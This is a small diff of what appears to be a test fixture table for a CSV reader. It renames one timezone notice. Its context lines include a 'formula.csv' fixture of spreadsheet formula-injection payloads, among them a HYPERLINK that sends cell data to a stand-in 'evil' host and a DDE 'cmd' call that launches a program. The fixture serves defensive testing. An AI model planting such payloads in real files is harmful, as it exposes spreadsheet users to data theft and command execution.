@@ -164,7 +164,7 @@ const behaviour: Readonly<Record<string, Read | Refused>> = {
   'tz-mixed.csv': {
     copy: 'ts,x\n2024-01-01T23:30:00Z,1\n2024-01-01T23:30:00-05:00,2\n',
     dateOrder: 'ymd',
-    notices: ['info days-in-utc'],
+    notices: ['info days-in-zone'],
   },
   'formula.csv': {
     copy: 'id,comment\n1,"=HYPERLINK(""http://evil/?""&A1,""x"")"\n2,+cmd|\' /C calc\'!A0\n3,@SUM(1)\n4,-2+3\n5,\t=1\n',
